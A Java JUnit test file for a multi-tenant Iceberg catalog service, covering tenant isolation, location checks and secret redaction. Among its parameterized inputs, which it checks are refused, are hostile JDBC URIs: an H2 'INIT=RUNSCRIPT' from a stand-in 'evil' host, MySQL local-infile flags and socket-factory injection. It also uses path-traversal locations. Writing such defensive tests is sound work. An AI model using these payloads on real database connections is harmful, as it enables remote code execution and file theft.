package io.wings.catalog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.ThrowableProxyUtil;
import ch.qos.logback.core.read.ListAppender;
import io.wings.catalog.rest.LocalRestServer;
import io.wings.catalog.secret.SecretPointer;
import io.wings.common.cluster.CatalogName;
import io.wings.common.error.ErrorKind;
import io.wings.common.error.WingsException;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.iceberg.HasTableOperations;
import org.apache.iceberg.Schema;
import org.apache.iceberg.Table;
import org.apache.iceberg.catalog.Namespace;
import org.apache.iceberg.catalog.TableIdentifier;
import org.apache.iceberg.types.Types;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Isolated;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

@Isolated
class TenantCatalogsTest {
  private static final Namespace SALES = Namespace.of("sales");
  private static final TableIdentifier ORDERS = TableIdentifier.of(SALES, "orders");
  private static final Schema SCHEMA =
      new Schema(Types.NestedField.required(1, "id", Types.LongType.get()));

  private final Path directory;
  private final ForwardClock clock = new ForwardClock();
  private final LocalTenants tenants;

  TenantCatalogsTest(@TempDir Path directory) {
    this.directory = directory;
    this.tenants = new LocalTenants(directory, clock);
  }

  @AfterEach
  void close() {
    tenants.close();
  }

  private static void createAndCommit(TenantCatalog catalog) {
    catalog.namespaces().createNamespace(SALES);
    Table table = catalog.catalog().createTable(ORDERS, SCHEMA);
    table.updateProperties().set("owner", "me").commit();
    assertThat(catalog.catalog().loadTable(ORDERS).properties()).containsEntry("owner", "me");
  }

  private Map<String, String> jdbc(String name) {
    return Map.of(
        "type",
        "jdbc",
        "uri",
        "jdbc:sqlite:" + database(name),
        "warehouse",
        tenants.warehouse(name));
  }

  private String database(String name) {
    return tenants.warehouse(name).substring("file://".length()) + "/catalog.db";
  }

  /** A tenant's secret is no way to another's files. */
  @Test
  void aDatabaseInAFileIsBelowTheTenantsWarehouse() {
    Map<String, String> properties = new HashMap<>(jdbc("sql"));
    for (String path :
        List.of(
            database("other"),
            directory.resolve("x.db").toString(),
            tenants.warehouse("sql").substring("file://".length()) + "/../other/catalog.db")) {
      properties.put("uri", "jdbc:sqlite:" + path);
      assertThatThrownBy(() -> tenants.open("sql", properties))
          .hasMessageStartingWith("location-refused: catalog sql: ");
    }
  }

  private Map<String, String> rest(LocalRestServer server, String name) {
    return Map.of(
        "type",
        "rest",
        "uri",
        server.uri(),
        "warehouse",
        name,
        "wings.local-root",
        server.tenants().warehouse(name));
  }

  @Test
  void opensItsOwnCatalogOverADirectory() {
    try (TenantCatalog catalog = tenants.wings("main")) {
      createAndCommit(catalog);
      assertThat(catalog.type()).isEqualTo(CatalogType.WINGS);
      assertThat(catalog.catalog().loadTable(ORDERS).location())
          .startsWith(tenants.warehouse("main") + "/sales/orders-");
    }
  }

  @Test
  void opensAJdbcCatalog() {
    try (TenantCatalog catalog = tenants.open("sql", jdbc("sql"))) {
      createAndCommit(catalog);
      assertThat(catalog.type()).isEqualTo(CatalogType.JDBC);
    }
  }

  @Test
  void opensAJdbcCatalogUnderTheNameThatItsRowsCarry() {
    tenants.open("sql", jdbc("sql")).close();
    Map<String, String> shared = new HashMap<>(jdbc("sql"));
    try (TenantCatalog catalog = tenants.open("sql", jdbc("sql"))) {
      createAndCommit(catalog);
    }
    shared.put("wings.jdbc-catalog-name", "sql");

    try (TenantCatalog second = tenants.open("second", shared)) {
      assertThat(second.catalog().tableExists(ORDERS)).isTrue();
    }
  }

  @Test
  void opensARestCatalog() {
    try (LocalRestServer server = new LocalRestServer(directory.resolve("remote"))) {
      server.tenants().wings("main").close();
      try (TenantCatalog catalog = tenants.open("remote", rest(server, "main"))) {
        createAndCommit(catalog);
        assertThat(catalog.type()).isEqualTo(CatalogType.REST);
      }
    }
  }

  /** Trap 43. */
  @Test
  void tablesOfEveryTypeIgnoreDeletesUnlessWingsAsksForThem() {
    try (LocalRestServer server = new LocalRestServer(directory.resolve("remote"))) {
      server.tenants().wings("main").close();
      try (TenantCatalog own = tenants.wings("own");
          TenantCatalog sql = tenants.open("sql", jdbc("sql"));
          TenantCatalog rest = tenants.open("rest", rest(server, "main"))) {
        for (TenantCatalog catalog : new TenantCatalog[] {own, sql, rest}) {
          createAndCommit(catalog);
          Table table = catalog.catalog().loadTable(ORDERS);
          String metadata =
              ((HasTableOperations) table).operations().current().metadataFileLocation();
          table.io().deleteFile(metadata);
          assertThat(table.io().newInputFile(metadata).exists()).isTrue();

          catalog.deletingIo(table).deleteFile(metadata);
          assertThat(table.io().newInputFile(metadata).exists()).isFalse();
        }
      }
    }
  }

  @Test
  void refusesANameThatIsNotRegistered() {
    assertThatThrownBy(() -> tenants.catalogs().open(new CatalogName("nobody")))
        .isInstanceOfSatisfying(
            WingsException.class, e -> assertThat(e.kind()).isEqualTo(ErrorKind.NOT_FOUND))
        .hasMessage("catalog-unknown: no catalog nobody is registered");
  }

  @Test
  void registersOnceAndRefusesAnotherSecretForTheName() {
    tenants.wings("main").close();
    tenants.wings("main").close();

    assertThat(tenants.tenants().list())
        .extracting(tenant -> tenant.name().value())
        .containsExactly("main");
    assertThatThrownBy(
            () ->
                tenants
                    .tenants()
                    .add(new CatalogName("main"), new SecretPointer.InEnvironment("OTHER")))
        .hasMessageStartingWith("catalog-exists: ");
    SecretPointer other = new SecretPointer.InEnvironment("OTHER");
    tenants.tenants().replace(new CatalogName("main"), other);
    assertThat(tenants.tenants().get(new CatalogName("main")))
        .hasValueSatisfying(tenant -> assertThat(tenant.secret()).isEqualTo(other));
    assertThatThrownBy(() -> tenants.tenants().replace(new CatalogName("nobody"), other))
        .hasMessageStartingWith("catalog-unknown: ");
    assertThat(tenants.tenants().remove(new CatalogName("main"))).isTrue();
    assertThat(tenants.tenants().remove(new CatalogName("main"))).isFalse();
    assertThat(tenants.tenants().list()).isEmpty();
  }

  /** Trap 24. */
  @Test
  void readsAChangedSecretOnceItIsOldAndKeepsTheHeldCatalogOpen() {
    TenantCatalog held = tenants.wings("main");
    createAndCommit(held);
    String moved = tenants.warehouse("moved");
    tenants.register("main", Map.of("type", "wings", "warehouse", moved));

    try (TenantCatalog early = tenants.catalogs().open(new CatalogName("main"))) {
      assertThat(early.catalog()).isSameAs(held.catalog());
    }
    clock.forward(CatalogSettings.DEFAULT_SECRET_MAX_AGE);
    try (TenantCatalog later = tenants.catalogs().open(new CatalogName("main"))) {
      assertThat(later.catalog().tableExists(ORDERS)).isFalse();
      later.namespaces().createNamespace(SALES);
      assertThat(later.catalog().createTable(ORDERS, SCHEMA).location()).startsWith(moved);
    }
    assertThat(held.catalog().loadTable(ORDERS).location()).startsWith(tenants.warehouse("main"));
    held.close();
  }

  @Test
  void forgetsARemovedCatalogOnceItsSecretIsOld() {
    tenants.wings("main").close();
    tenants.tenants().remove(new CatalogName("main"));
    clock.forward(CatalogSettings.DEFAULT_SECRET_MAX_AGE);

    assertThatThrownBy(() -> tenants.catalogs().open(new CatalogName("main")))
        .hasMessageStartingWith("catalog-unknown: ");
  }

  /** Trap 38. */
  @Test
  void tenantsOfTheSameNamesNeverMix() {
    try (TenantCatalog one = tenants.wings("one");
        TenantCatalog two = tenants.wings("two")) {
      createAndCommit(one);
      createAndCommit(two);
      Table first = one.catalog().loadTable(ORDERS);
      Table second = two.catalog().loadTable(ORDERS);

      assertThat(first.uuid()).isNotEqualTo(second.uuid());
      String foreign = ((HasTableOperations) first).operations().current().metadataFileLocation();
      assertThatThrownBy(() -> second.io().newInputFile(foreign))
          .hasMessageStartingWith("location-refused: ");
      assertThatThrownBy(
              () -> two.catalog().registerTable(TableIdentifier.of(SALES, "stolen"), foreign))
          .hasMessageStartingWith("location-refused: ");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "file://CLUSTER",
        "file://CLUSTER/x",
        "CLUSTER/catalogs/one",
        "WAREHOUSE/_wings",
        "WAREHOUSE/_wings/tables",
        "WAREHOUSE/../../cluster/x",
        "WAREHOUSE",
        "file:///",
        "file://host/x",
        "hdfs://x/y",
        "https://x/y",
        "gs://x/y",
        "relative/path"
      })
  void refusesLocationsThatAreNotTheTenants(String template) {
    try (TenantCatalog catalog = tenants.wings("main")) {
      String location =
          template
              .replace("CLUSTER", directory.resolve("cluster").toString())
              .replace("WAREHOUSE", tenants.warehouse("main"));
      assertThatThrownBy(() -> catalog.checkLocation(location))
          .hasMessageStartingWith("location-refused: ");
      catalog.namespaces().createNamespace(SALES);
      assertThatThrownBy(
              () -> catalog.catalog().buildTable(ORDERS, SCHEMA).withLocation(location).create())
          .hasMessageStartingWith("location-refused: ");
      assertThatThrownBy(
              () ->
                  catalog
                      .catalog()
                      .buildTable(ORDERS, SCHEMA)
                      .withProperty("write.data.path", location)
                      .create())
          .hasMessageStartingWith("location-refused: ");
    }
  }

  @Test
  void refusesAWarehouseInsideTheCluster() {
    String inside = "file://" + directory.resolve("cluster").resolve("warehouse");

    assertThatThrownBy(() -> tenants.open("main", Map.of("type", "wings", "warehouse", inside)))
        .hasMessageStartingWith("location-refused: catalog main: ");
  }

  /** Trap 39. */
  @ParameterizedTest
  @ValueSource(strings = {"wings", "jdbc"})
  void neverFallsBackToTheProcessCredentials(String type) {
    Map<String, String> properties = new HashMap<>();
    properties.put("type", type);
    properties.put("warehouse", "s3://bucket/warehouse");
    properties.put("client.region", "eu-central-1");
    if (type.equals("jdbc")) {
      properties.put("uri", "jdbc:sqlite:" + directory.resolve("x.db"));
    }

    assertThatThrownBy(() -> tenants.open("main", properties))
        .hasMessageStartingWith("s3-credentials-missing: catalog main: ");
  }

  /** A temporary key is one like any other; the endpoint doesn't answer. */
  @Test
  void ownCatalogsTakeTemporaryKeys() {
    Map<String, String> properties = new HashMap<>();
    properties.put("type", "wings");
    properties.put("warehouse", "s3://bucket/warehouse");
    properties.put("s3.endpoint", "http://127.0.0.1:1");
    properties.put("s3.access-key-id", "id");
    properties.put("s3.secret-access-key", "hush");
    properties.put("s3.session-token", "quiet");

    assertThatThrownBy(() -> tenants.open("main", properties))
        .hasMessageStartingWith("catalog-unavailable: catalog main can't be opened: StoreException")
        .hasMessageNotContaining("quiet");
  }

  /** Trap 39. */
  @Test
  void signsWithTheTenantsKeyOnly() {
    Map<String, String> properties =
        new HashMap<>(Map.of("type", "rest", "uri", "http://127.0.0.1:1"));
    properties.put("rest.auth.type", "sigv4");

    assertThatThrownBy(() -> tenants.open("main", properties))
        .hasMessageStartingWith("catalog-refused: catalog main: signing needs rest.access-key-id");
    properties.put("rest.auth.type", "com.example.Manager");
    tenants.register("main", properties);
    assertThatThrownBy(() -> tenants.catalogs().open(new CatalogName("main")))
        .hasMessageContaining("rest.auth.type is one of [basic, none, oauth2, sigv4]");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "jdbc:postgresql://user:hunter2@host/db",
        "jdbc:postgresql://host/db?user=a&password=hunter2",
        "jdbc:postgresql://host/db?socketFactory=com.example.X",
        "jdbc:mysql://host/db?allowLoadLocalInfile=true",
        "jdbc:mysql://(host=host,allowLoadLocalInfile=true)/db",
        "jdbc:mysql://address=(host=host)(allowLoadLocalInfile=true)/db",
        "jdbc:sqlite::memory:",
        "http://host/db"
      })
  void refusesDatabasesByOtherWays(String uri) {
    assertThatThrownBy(
            () ->
                tenants.open(
                    "sql",
                    Map.of("type", "jdbc", "uri", uri, "warehouse", tenants.warehouse("sql"))))
        .hasMessageStartingWith("catalog-refused: catalog sql: ")
        .hasMessageNotContaining("hunter2");
  }

  @Test
  void neverShowsASecret() throws IOException {
    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    Level before = root.getLevel();
    ListAppender<ILoggingEvent> log = new ListAppender<>();
    log.start();
    root.addAppender(log);
    root.setLevel(Level.INFO);
    StringWriter seen = new StringWriter();
    try (EchoServer echo = new EchoServer()) {
      Map<String, Map<String, String>> planted =
          Map.of(
              "token", Map.of("token", "PLANTED-token"),
              "credential",
                  Map.of("credential", "client:PLANTED-credential", "rest.auth.type", "oauth2"),
              "basic",
                  Map.of(
                      "rest.auth.type",
                      "basic",
                      "rest.auth.basic.username",
                      "u",
                      "rest.auth.basic.password",
                      "PLANTED-basic"),
              "header", Map.of("header.X-Api-Key", "PLANTED-header"),
              "misspelt", Map.of("tokn", "PLANTED-misspelt"),
              "endpoint", Map.of("s3.endpoint", "http://u:PLANTED-endpoint@host"));
      planted.forEach(
          (name, extra) -> {
            Map<String, String> properties = new HashMap<>(extra);
            properties.put("type", "rest");
            properties.put("uri", echo.uri());
            show(name, properties, seen);
          });
      Map<String, String> sql = new HashMap<>(jdbc("sql"));
      sql.put("uri", "jdbc:postgresql://127.0.0.1:1/db");
      sql.put("jdbc.password", "PLANTED-database");
      show("sql", sql, seen);
    } finally {
      root.detachAppender(log);
      root.setLevel(before);
    }
    for (ILoggingEvent event : log.list) {
      seen.write(event.getFormattedMessage() + "\n");
      if (event.getThrowableProxy() != null) {
        seen.write(ThrowableProxyUtil.asString(event.getThrowableProxy()));
      }
    }
    assertThat(seen.toString()).contains("catalog-unavailable: ").doesNotContain("PLANTED");
    String basic =
        Base64.getEncoder().encodeToString("u:PLANTED-basic".getBytes(StandardCharsets.UTF_8));
    assertThat(seen.toString()).doesNotContain(basic);
  }

  private void show(String name, Map<String, String> properties, StringWriter seen) {
    try (TenantCatalog catalog = tenants.open(name, properties)) {
      seen.write(catalog.toString());
      catalog.catalog().loadTable(ORDERS);
    } catch (RuntimeException e) {
      e.printStackTrace(new PrintWriter(seen, true));
    }
  }

  /** Answers every request with an error that repeats the request's headers and body. */
  private static final class EchoServer implements AutoCloseable {
    private final com.sun.net.httpserver.HttpServer http;

    EchoServer() throws IOException {
      http =
          com.sun.net.httpserver.HttpServer.create(
              new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
      http.createContext(
          "/",
          exchange -> {
            String body =
                new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
            String said = (exchange.getRequestHeaders().entrySet() + body).replace('"', '\'');
            byte[] answer =
                ("{\"error\":{\"message\":\"" + said + "\",\"type\":\"X\",\"code\":400}}")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(400, answer.length);
            try (OutputStream out = exchange.getResponseBody()) {
              out.write(answer);
            }
          });
      http.start();
    }

    String uri() {
      return "http://127.0.0.1:" + http.getAddress().getPort();
    }

    @Override
    public void close() {
      http.stop(0);
    }
  }

  @Test
  void registrationsHoldPointersOnly() throws IOException {
    tenants.open("sql", jdbc("sql")).close();

    String stored =
        Files.readString(directory.resolve("cluster").resolve("tenants").resolve("sql.json"));
    assertThat(stored).contains("file://").doesNotContain("jdbc:");
  }
}
